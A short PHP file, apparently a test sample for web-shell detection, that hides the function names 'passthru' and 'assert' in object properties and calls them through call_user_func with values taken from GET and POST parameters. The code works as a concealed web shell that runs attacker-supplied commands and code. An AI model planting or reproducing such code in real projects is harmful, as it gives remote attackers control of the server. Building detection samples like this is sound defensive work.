<?php
// a probe written for the tests: the runner's name kept in an object's property
class Task
{
    private $step = 'str_rot13';
    public function __construct() { $this->step = 'assert'; }
    public function go($v) { return call_user_func($this->step, $v); }
}
$o = new stdClass();
$o->cb = 'passthru';
call_user_func($o->cb, $_GET['k']);
(new Task())->go(@$_POST['v']);
